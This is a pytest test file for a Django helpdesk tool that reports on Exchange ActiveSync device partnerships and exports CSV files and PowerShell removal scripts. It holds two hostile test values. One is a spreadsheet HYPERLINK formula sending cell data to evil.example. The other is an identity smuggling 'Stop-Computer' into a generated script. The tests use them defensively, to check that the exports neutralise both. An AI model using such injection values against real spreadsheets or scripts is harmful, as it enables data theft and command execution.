"""Partnership hygiene (/people/hygiene/): the four lists, their filters, CSV and .ps1
downloads, the batch restriction, permissions, bounded queries and hygiene_counts()."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from devices.models import Generation
from helpdesk import hygiene
from helpdesk.hygiene import Scope, hygiene_counts
from migrations_plan.models import BatchState
from tests.factories import (
    BatchMailboxFactory,
    ExchangeServerFactory,
    MailboxFactory,
    MobileDeviceFactory,
    MoveBatchFactory,
    OrganisationFactory,
    PartnershipFactory,
)

pytestmark = pytest.mark.django_db
NOW = timezone.now()
URLS = {kind: reverse(f"helpdesk:hygiene_{kind}") for kind in hygiene.KINDS}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def partner(mailbox, *, synced_days_ago=1, identity=None, eas_version="16.1", **device):
    synced = None if synced_days_ago is None else NOW - timedelta(days=synced_days_ago)
    device = MobileDeviceFactory(**device)
    return PartnershipFactory(
        mailbox=mailbox,
        device=device,
        last_success_sync_at=synced,
        eas_version=eas_version,
        identity=identity
        if identity is not None
        else f"{mailbox.identity}/ExchangeActiveSyncDevices/{device.device_id}",
    )


@pytest.fixture
def world():
    OrganisationFactory(forest="contoso.local", eas_max_devices=10)
    ex2016 = ExchangeServerFactory(name="EX2016A", forest="contoso.local")
    ex2010 = ExchangeServerFactory(name="EX2010A", ex2010=True, forest="contoso.local")
    other = ExchangeServerFactory(name="EX2016F", forest="fabrikam.local")
    exo = ExchangeServerFactory(name="Exchange Online", generation=Generation.EXO, build="")
    kim = MailboxFactory(display_name="Kim Stale", server=ex2016)
    stale = partner(kim, synced_days_ago=45, friendly_name=HOSTILE_NAME, identity="Kim's phone")
    fresh = partner(kim, synced_days_ago=2)
    never_old = PartnershipFactory(
        mailbox=kim,
        device=MobileDeviceFactory(),
        last_success_sync_at=None,
        first_sync_at=NOW - timedelta(days=60),
    )
    never_new = PartnershipFactory(
        mailbox=kim, device=MobileDeviceFactory(), last_success_sync_at=None, first_sync_at=None
    )
    gone = PartnershipFactory(
        mailbox=kim,
        device=MobileDeviceFactory(),
        last_success_sync_at=NOW - timedelta(days=90),
        is_stale=True,
    )

    dup = MailboxFactory(display_name="Dan Duplicates", server=ex2016)
    imei_new = partner(dup, synced_days_ago=1, imei="356938035643809")
    imei_old = partner(dup, synced_days_ago=10, imei="356938035643809")
    id_new = partner(dup, synced_days_ago=3, device_id="ApplABCDEF")
    id_old = partner(dup, synced_days_ago=20, device_id="applabcdef")
    alike = {"device_type": "SAMSUNGSMG991B", "model": "SM-G991B", "friendly_name": "Dan's S21"}
    likely_new = partner(dup, synced_days_ago=2, **alike)
    likely_old = partner(dup, synced_days_ago=5, **alike)
    # Different IMEIs: two phones, however alike.
    partner(dup, synced_days_ago=1, imei="111", **{**alike, "friendly_name": "twin"})
    partner(dup, synced_days_ago=1, imei="222", **{**alike, "friendly_name": "twin"})

    full = MailboxFactory(display_name="Fay Full", server=ex2016)
    for _ in range(8):
        partner(full)
    roomy = MailboxFactory(display_name="Ron Roomy", server=ex2016)
    for _ in range(7):
        partner(roomy)
    # fabrikam has no recorded limit: 100 is assumed, 8 is nowhere near it.
    far = MailboxFactory(display_name="Fab Eight", server=other)
    for _ in range(8):
        partner(far)

    old = MailboxFactory(display_name="Vic Versions", server=ex2016)
    v21 = PartnershipFactory(mailbox=old, eas_version="2.1", identity="v21")
    v141 = PartnershipFactory(mailbox=old, eas_version="14.1", identity="v141")
    v161 = PartnershipFactory(mailbox=old, eas_version="16.1", identity="v161")
    vnone = PartnershipFactory(mailbox=old, eas_version="", identity="vnone")
    outlook = PartnershipFactory(mailbox=old, eas_version="", client_type="Outlook")
    old2010 = MailboxFactory(display_name="Wes Twenty-Ten", server=ex2010)
    w141 = PartnershipFactory(mailbox=old2010, eas_version="14.1", identity="w141")
    w121 = PartnershipFactory(mailbox=old2010, eas_version="12.1", identity="w121")

    batch = MoveBatchFactory(name="Wave 1", target_server=exo, state=BatchState.SCHEDULED)
    BatchMailboxFactory(batch=batch, mailbox=dup, source_server=ex2016)
    BatchMailboxFactory(batch=batch, mailbox=old2010, source_server=ex2010)
    return {
        "servers": {"ex2016": ex2016, "ex2010": ex2010, "other": other, "exo": exo},
        "mailboxes": {"kim": kim, "dup": dup, "full": full, "roomy": roomy, "old": old},
        "batch": batch,
        "p": {
            "stale": stale,
            "fresh": fresh,
            "never_old": never_old,
            "never_new": never_new,
            "gone": gone,
            "imei_new": imei_new,
            "imei_old": imei_old,
            "id_new": id_new,
            "id_old": id_old,
            "likely_new": likely_new,
            "likely_old": likely_old,
            "v21": v21,
            "v141": v141,
            "v161": v161,
            "vnone": vnone,
            "outlook": outlook,
            "w141": w141,
            "w121": w121,
        },
    }


@pytest.fixture
def helpdesk(client, helpdesk_user):
    client.force_login(helpdesk_user)
    return client


@pytest.fixture
def admin(client, admin_user):
    client.force_login(admin_user)
    return client


def get(client, list_kind, **params):
    response = client.get(URLS[list_kind], params)
    assert response.status_code == 200, response.content[:800]
    return response


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


# --- stale -------------------------------------------------------------------------------


def test_stale_lists_old_syncs_and_old_never_synced_but_not_fresh_or_gone(helpdesk, world):
    p = world["p"]
    rows = list(get(helpdesk, "stale").context["rows"])
    kim = [r for r in rows if r.mailbox_id == world["mailboxes"]["kim"].pk]
    assert kim == [p["never_old"], p["stale"]]  # never synced first, then the oldest sync
    assert p["fresh"] not in rows and p["never_new"] not in rows and p["gone"] not in rows


def test_stale_days_filter_and_setting(helpdesk, world, settings):
    p = world["p"]
    rows = list(get(helpdesk, "stale", days=15).context["rows"])
    assert p["imei_old"] not in rows and p["id_old"] in rows
    settings.HYGIENE_STALE_DAYS = 50
    rows = list(get(helpdesk, "stale").context["rows"])
    assert p["stale"] not in rows and p["never_old"] in rows


def test_stale_csv_neutralises_a_formula_in_a_friendly_name(helpdesk, world):
    response = helpdesk.get(URLS["stale"], {"export": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert rows[0][0] == "Name"
    names = [r[5] for r in rows[1:]]
    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names


# --- duplicates --------------------------------------------------------------------------


def groups_of(response):
    return {frozenset(p.pk for p in g.partnerships): g for g in response.context["groups"]}


def test_duplicates_by_imei_by_device_id_and_likely_newest_first(helpdesk, world):
    p = world["p"]
    groups = groups_of(get(helpdesk, "duplicates"))
    imei = groups[frozenset({p["imei_new"].pk, p["imei_old"].pk})]
    assert [x.pk for x in imei.partnerships] == [p["imei_new"].pk, p["imei_old"].pk]
    assert [x.candidate for x in imei.partnerships] == [False, True]
    assert imei.bases == {"imei"}
    by_id = groups[frozenset({p["id_new"].pk, p["id_old"].pk})]
    assert by_id.bases == {"device_id"} and by_id.partnerships[1].candidate_exact
    likely = groups[frozenset({p["likely_new"].pk, p["likely_old"].pk})]
    assert likely.likely_only
    old = likely.partnerships[1]
    assert old.pk == p["likely_old"].pk and old.candidate and not old.candidate_exact
    assert len(groups) == 3, "two phones with different IMEIs are no duplicates"


def test_duplicates_kind_filter(helpdesk, world):
    p = world["p"]
    exact = groups_of(get(helpdesk, "duplicates", kind="exact"))
    assert len(exact) == 2
    likely = groups_of(get(helpdesk, "duplicates", kind="likely"))
    assert list(likely) == [frozenset({p["likely_new"].pk, p["likely_old"].pk})]


def test_duplicates_csv_marks_removal_candidates(helpdesk, world):
    rows = csv_rows(helpdesk.get(URLS["duplicates"], {"export": "csv"}))
    verdicts = sorted(r[2] for r in rows[1:])
    assert verdicts == ["keep", "keep", "keep", "remove", "remove", "remove (likely)"]


# --- limit -------------------------------------------------------------------------------


def test_a_mailbox_at_8_of_10_is_near_its_limit_and_7_is_not(helpdesk, world):
    response = get(helpdesk, "limit")
    listed = {m.display_name: m for m in response.context["mailboxes"]}
    assert "Fay Full" in listed and "Ron Roomy" not in listed and "Fab Eight" not in listed
    fay = listed["Fay Full"]
    assert (fay.n_partnerships, fay.limit, fay.recorded_limit) == (8, 10, 10)
    assert "(EasMaxDevices)" in response.content.decode()
    assert "Dan Duplicates" in listed  # 8 current partnerships as well
    assert "Fay Full" not in {
        m.display_name for m in get(helpdesk, "limit", level="at").context["mailboxes"]
    }


def test_an_unrecorded_limit_is_100_and_says_2010_sp1_reports_10(helpdesk, world):
    far = MailboxFactory(display_name="Big Box", server=world["servers"]["other"])
    for _ in range(80):
        partner(far)
    response = get(helpdesk, "limit")
    big = next(m for m in response.context["mailboxes"] if m.display_name == "Big Box")
    assert (big.limit, big.recorded_limit) == (100, None)
    assert "Exchange 2010 SP1 deployments commonly report 10" in response.content.decode()
    rows = csv_rows(helpdesk.get(URLS["limit"], {"export": "csv"}))
    big_row = next(r for r in rows if r[0] == "Big Box")
    assert big_row[3:5] == ["80", "100"] and "commonly report 10" in big_row[5]


# --- EAS versions ------------------------------------------------------------------------


def categories(response) -> dict[str, str]:
    return {p.identity: p.eas_category for p in response.context["rows"]}


def test_versions_against_exchange_online(helpdesk, world, settings):
    found = categories(get(helpdesk, "easver", target=world["servers"]["exo"].pk))
    # 14.1 on a 2016 source is below what the source offers: not accepted. 14.1 on a 2010
    # source is the cap: not shown to speak 16.1. 12.1 on 2010 is below its cap.
    assert found["v21"] == "below" and found["v141"] == "below"
    assert found["vnone"] == "unknown" and "v161" not in found
    assert found["w141"] == "unconfirmed" and found["w121"] == "below"
    assert world["p"]["outlook"].pk not in {p.pk for p in get(helpdesk, "easver").context["rows"]}


def test_versions_against_an_on_premises_target(helpdesk, world):
    found = categories(get(helpdesk, "easver", target=world["servers"]["ex2016"].pk))
    assert found == {"v21": "below", "vnone": "unknown"}
    assert categories(get(helpdesk, "easver")) == found


def test_version_category_filter(helpdesk, world):
    found = categories(
        get(helpdesk, "easver", target=world["servers"]["exo"].pk, category="unconfirmed")
    )
    assert found == {"w141": "unconfirmed"}


def test_eas_category_rules():
    exo = {"exo": True}
    assert hygiene.eas_category("1.0", source_generation="2016", exo=False) == "below"
    assert hygiene.eas_category("2.5", source_generation="2003", exo=False) is None
    assert hygiene.eas_category("junk", source_generation="2016", exo=False) == "unknown"
    assert hygiene.eas_category("12.1", source_generation="2007", **exo) == "unconfirmed"
    assert hygiene.eas_category("12.0", source_generation="2007", **exo) == "below"
    assert hygiene.eas_category("14.1", source_generation="2013", **exo) == "unconfirmed"
    assert hygiene.eas_category("14.1", source_generation="", **exo) == "unconfirmed"
    assert hygiene.eas_category("16.1", source_generation="2010", **exo) is None


# --- the batch restriction ---------------------------------------------------------------


def test_a_batch_restricts_every_list_to_its_members_and_uses_its_target(helpdesk, world):
    batch = world["batch"]
    dup, old2010 = world["mailboxes"]["dup"], world["p"]["w141"].mailbox
    for kind in ("stale", "easver"):
        rows = get(helpdesk, kind, batch=batch.pk).context["rows"]
        assert {p.mailbox_id for p in rows} <= {dup.pk, old2010.pk}
    found = categories(get(helpdesk, "easver", batch=batch.pk))
    assert found == {"w141": "unconfirmed", "w121": "below"}  # against Exchange Online
    groups = get(helpdesk, "duplicates", batch=batch.pk).context["groups"]
    assert {g.mailbox.pk for g in groups} == {dup.pk}
    assert [m.pk for m in get(helpdesk, "limit", batch=batch.pk).context["mailboxes"]] == [dup.pk]


def test_server_and_organisation_filters(helpdesk, world):
    ex2010 = world["servers"]["ex2010"]
    rows = get(helpdesk, "easver", server=ex2010.pk, target=world["servers"]["exo"].pk).context[
        "rows"
    ]
    assert len(rows) == 2
    assert {p.mailbox.server_id for p in rows} == {ex2010.pk}
    from devices.models import Organisation

    fabrikam = Organisation.objects.create(forest="fabrikam.local")
    listed = get(helpdesk, "stale", organisation=fabrikam.pk).context["rows"]
    assert list(listed) == []
    contoso = Organisation.objects.get(forest="contoso.local")
    assert len(get(helpdesk, "stale", organisation=contoso.pk).context["rows"]) == 2


# --- PowerShell --------------------------------------------------------------------------


def test_helpdesk_sees_the_lists_but_not_the_powershell(helpdesk, world):
    for kind in hygiene.KINDS:
        response = get(helpdesk, kind)
        assert response.context["ps_lines"] is None
        assert b"Remove-MobileDevice -Identity" not in response.content
        assert helpdesk.get(URLS[kind], {"export": "ps1"}).status_code == 403
        assert helpdesk.get(URLS[kind], {"export": "csv"}).status_code == 200


def test_admin_sees_escaped_lines_and_downloads_a_ps1(admin, world):
    response = get(admin, "stale")
    page = response.content.decode()
    assert "Remove-MobileDevice -Identity &#x27;Kim&#x27;&#x27;s phone&#x27; -Confirm:$true" in page
    download = admin.get(URLS["stale"], {"export": "ps1"})
    assert download["Content-Type"].startswith("text/plain")
    assert download["Content-Disposition"].startswith('attachment; filename="exsync-stale-')
    text = b"".join(download.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff#")
    assert "exsync never runs anything against Exchange" in text
    assert "Remove-MobileDevice -Identity 'Kim''s phone' -Confirm:$true\r\n" in text


def test_cmdlet_by_generation_and_unsafe_or_missing_identities(admin, world):
    kim = world["mailboxes"]["kim"]
    partner(kim, synced_days_ago=99, identity="evil\r\nStop-Computer")
    partner(kim, synced_days_ago=98, identity="")
    w = MailboxFactory(display_name="Old 2010", server=world["servers"]["ex2010"])
    partner(w, synced_days_ago=99, identity="contoso.local/Users/Old/x")
    ex2003 = ExchangeServerFactory(name="EX2003", generation=Generation.EX2003)
    partner(MailboxFactory(server=ex2003), synced_days_ago=99, identity="y")
    lines = get(admin, "stale").context["ps_lines"]
    text = "\n".join(lines)
    assert "Stop-Computer" not in text
    assert any("cannot be written safely" in line for line in lines)
    assert any("Identity was not exported" in line for line in lines)
    assert "Remove-ActiveSyncDevice -Identity 'contoso.local/Users/Old/x' -Confirm:$true" in lines
    assert any("Exchange 2003 has no cmdlet" in line for line in lines)
    assert all(line.startswith(("Remove-", "# partnership ")) for line in lines)


def test_duplicate_lines_remove_only_the_older_ones(admin, world):
    lines = get(admin, "duplicates").context["ps_lines"]
    assert len(lines) == 3
    p = world["p"]
    assert f"'{p['imei_old'].identity}'" in "\n".join(lines)
    assert f"'{p['imei_new'].identity}'" not in "\n".join(lines)
    # A look-alike may be a second, identical phone in use: a comment, never a command.
    assert f"'{p['likely_old'].identity}'" not in "\n".join(lines)
    assert f"# partnership {p['likely_old'].pk}: likely the same phone" in "\n".join(lines)


def test_easver_lines_cover_not_accepted_only(admin, world):
    lines = get(admin, "easver", batch=world["batch"].pk).context["ps_lines"]
    assert lines == ["Remove-ActiveSyncDevice -Identity 'w121' -Confirm:$true"]


# --- access ------------------------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_the_login_page(client, world):
    for url in [*URLS.values(), reverse("helpdesk:hygiene")]:
        response = client.get(url, {"export": "ps1"})
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_overview_shows_the_four_counts_with_links(helpdesk, world):
    response = helpdesk.get(reverse("helpdesk:hygiene"), {"batch": world["batch"].pk})
    assert response.status_code == 200
    checks = [c.check for c, _ in response.context["counts"]]
    assert checks == ["HYG-STALE", "HYG-DUP", "HYG-LIMIT", "HYG-EASVER"]
    assert f"?batch={world['batch'].pk}" in response.content.decode()


# --- counts ------------------------------------------------------------------------------


def test_hygiene_counts_organisation_wide(world, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):
        counts = {c.check: c for c in hygiene_counts()}
    assert (counts["HYG-STALE"].count, counts["HYG-STALE"].mailboxes) == (2, 1)
    assert (counts["HYG-DUP"].count, counts["HYG-DUP"].mailboxes) == (3, 1)
    assert "2 certain, 1 likely" in counts["HYG-DUP"].detail
    assert (counts["HYG-LIMIT"].count, counts["HYG-LIMIT"].mailboxes) == (2, 2)
    assert counts["HYG-EASVER"].count == 2  # 2.1 and an empty version, against any Exchange
    assert counts["HYG-STALE"].link == reverse("helpdesk:hygiene_stale")


def test_hygiene_counts_for_a_batch_against_its_target(world):
    batch, exo = world["batch"], world["servers"]["exo"]
    ids = [world["mailboxes"]["dup"].pk, world["p"]["w141"].mailbox_id]
    counts = {c.check: c for c in hygiene_counts(mailbox_ids=ids, target=exo)}
    assert counts["HYG-EASVER"].count == 2 and counts["HYG-EASVER"].mailboxes == 1
    assert counts["HYG-EASVER"].link == f"{reverse('helpdesk:hygiene_easver')}?target={exo.pk}"
    assert counts["HYG-STALE"].count == 0 and counts["HYG-DUP"].count == 3
    by_batch = {c.check: c for c in hygiene_counts(batch=batch)}
    assert by_batch["HYG-EASVER"].count == 2
    assert by_batch["HYG-DUP"].link.endswith(f"?batch={batch.pk}")


def test_hygiene_counts_agree_with_the_lists(helpdesk, world):
    counts = {c.check: c for c in hygiene_counts(batch=world["batch"])}
    for kind in hygiene.KINDS:
        response = get(helpdesk, kind, batch=world["batch"].pk)
        if kind == "duplicates":
            shown = sum(p.candidate for g in response.context["groups"] for p in g.partnerships)
        else:
            shown = response.context["page"].paginator.count
        assert counts[hygiene.CHECK_IDS[kind]].count == shown, kind


# --- bounded queries ---------------------------------------------------------------------


def grow(world, n: int) -> None:
    """n more mailboxes with a stale, a duplicated, an old-version phone each."""
    server = world["servers"]["ex2016"]
    for i in range(n):
        m = MailboxFactory(server=server)
        BatchMailboxFactory(batch=world["batch"], mailbox=m, source_server=server)
        PartnershipFactory(
            mailbox=m,
            device=MobileDeviceFactory(imei=f"99{i}"),
            last_success_sync_at=NOW - timedelta(days=40),
            eas_version="2.0",
        )
        PartnershipFactory(mailbox=m, device=MobileDeviceFactory(imei=f"99{i}"))
        for _ in range(7):
            partner(m)


@pytest.mark.parametrize("kind", hygiene.KINDS)
@pytest.mark.parametrize("role", ["admin", "helpdesk"])
def test_a_list_costs_the_same_queries_for_few_and_many_rows(
    kind, role, request, world, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = request.getfixturevalue(role)
    params = {"batch": world["batch"].pk}

    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            get(client, kind, **params)
        return len(captured)

    grow(world, 1)  # a row in every list: an empty page skips its query
    few = count()
    grow(world, 12)
    with django_assert_max_num_queries(few):
        response = get(client, kind, **params)
    assert response.context["page"].paginator.count >= 12
    with django_assert_max_num_queries(few):
        response = client.get(URLS[kind], {**params, "export": "csv"})
        b"".join(response.streaming_content)
    assert few <= 16


def test_a_ps1_download_costs_the_same_queries_for_many_rows(
    admin, world, django_assert_max_num_queries
):
    grow(world, 12)
    for kind in hygiene.KINDS:
        with django_assert_max_num_queries(8):
            response = admin.get(URLS[kind], {"export": "ps1"})
            b"".join(response.streaming_content)


def test_scope_without_filters_reads_every_current_partnership(world):
    assert hygiene.current_partnerships(Scope()).filter(is_stale=True).count() == 0
